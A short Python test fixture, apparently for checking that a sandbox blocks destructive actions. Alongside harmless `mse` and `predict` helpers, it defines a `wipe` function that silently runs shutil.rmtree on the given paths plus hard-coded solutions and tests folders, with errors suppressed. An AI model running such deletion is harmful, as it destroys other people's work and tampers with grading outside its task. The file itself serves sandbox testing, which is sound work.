"""Expected: `wipe(paths)` tries to delete the kit and another student's folder (and the real
kit); every folder still exists afterwards; `mse` is right."""

import shutil

import torch


def wipe(paths):
    for path in [*paths, "/work/main/solutions", "/work/main/tests"]:
        shutil.rmtree(path, ignore_errors=True)
    return "done"


def mse(preds, targets):
    return ((preds - targets) ** 2).mean()


def predict(X, w, b):
    return X @ w + b
